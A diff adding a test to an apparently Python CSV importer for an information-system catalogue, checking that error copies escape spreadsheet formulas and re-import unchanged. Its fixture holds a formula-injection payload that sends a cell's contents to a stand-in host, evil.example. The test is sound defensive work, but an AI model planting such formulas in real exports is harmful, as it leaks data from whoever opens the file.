@@ -275,3 +275,32 @@ def test_a_user_past_the_quota_of_kept_files_is_refused(app, client, seed, make_
     assert response.status_code == 429
     assert "CATALOG_IMPORT_QUOTA_FILES" in response.get_data(as_text=True)
     assert len([n for n in kept(app) if not n.endswith(".json")]) == 4
+
+
+# --- CSV error copies: formulas neutralised, loaded back unchanged ---------------------------
+
+
+def test_a_csv_error_copy_marks_formulas_as_text_and_loads_back_unchanged(ctx, seed, tmp_path):
+    import csv as csv_module
+
+    formula = '=HYPERLINK("http://evil.example/?d="&B5;"x")'
+    source = tmp_path / "системы.csv"
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv_module.writer(handle, delimiter=";")
+        writer.writerow(SYSTEM_HEADER)
+        writer.writerow([formula, "региональная гис", "непонятная стадия", "MINSOC"])
+        writer.writerow(["-вторая система", *SYSTEM])
+    importer = IMPORTERS["systems"](ctx, source)
+    report = importer.run()
+    assert report.refused_whole
+    copy = importer.error_copy(tmp_path / "системы-ошибки.csv")
+    with copy.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv_module.reader(handle, delimiter=";"))
+    assert rows[1][0] == "'" + formula and rows[2][0] == "'-вторая система"  # no spreadsheet runs them
+    fixed = copy.read_text(encoding="utf-8-sig").replace("непонятная стадия", "в эксплуатации")
+    copy.write_text(fixed, encoding="utf-8")
+    again = IMPORTERS["systems"](ctx, copy).run()
+    assert again.written and again.created == 2, again.lines()
+    ctx.session.rollback()
+    names = set(ctx.session.scalars(select(models.InformationSystem.name)))
+    assert {formula, "-вторая система"} <= names
